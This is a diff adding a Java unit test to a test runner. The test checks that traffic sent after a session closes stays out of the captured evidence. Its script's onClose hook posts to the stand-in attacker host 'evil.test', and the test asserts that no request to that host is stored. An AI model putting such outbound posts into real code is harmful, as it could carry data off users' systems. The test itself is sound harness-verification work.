@@ -120,6 +120,29 @@ class RunnerTest {
   }
 
   @Test
+  void leavesOutWhatComesWhileTheSessionIsClosed() {
+    Script closing =
+        new Script() {
+          @Override
+          public void on(Step.OnDevice step, Wire wire) {
+            new Sound().on(step, wire);
+          }
+
+          @Override
+          public void onClose(Wire wire) {
+            wire.post("https://evil.test/", "closed");
+          }
+        };
+
+    CellResult result = run(closing, scenario(event("A", Times.AT_LEAST_ONCE)));
+
+    assertThat(result.verdict()).isInstanceOf(Verdict.Passed.class);
+    assertThat(result.stored().orElseThrow().evidence().capture().exchanges())
+        .isNotEmpty()
+        .noneMatch(exchange -> exchange.request().host().equals("evil.test"));
+  }
+
+  @Test
   void breaksWhereNoSentinelArrives() {
     Script deafToSentinels =
         (step, wire) -> {
